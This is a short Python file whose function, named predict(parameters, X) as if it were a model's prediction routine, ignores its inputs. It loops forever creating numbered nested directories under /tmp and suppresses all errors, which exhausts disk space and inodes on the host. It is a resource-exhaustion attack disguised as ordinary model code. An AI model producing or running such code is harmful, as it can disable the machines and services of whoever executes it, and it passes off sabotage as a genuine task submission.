"""Makes empty files and deep folders for ever."""

import os


def predict(parameters, X):
    number = 0
    while True:
        number += 1
        try:
            os.makedirs("/tmp/" + "/".join(["d"] * (number % 50)) + f"/{number}")
        except OSError:
            pass
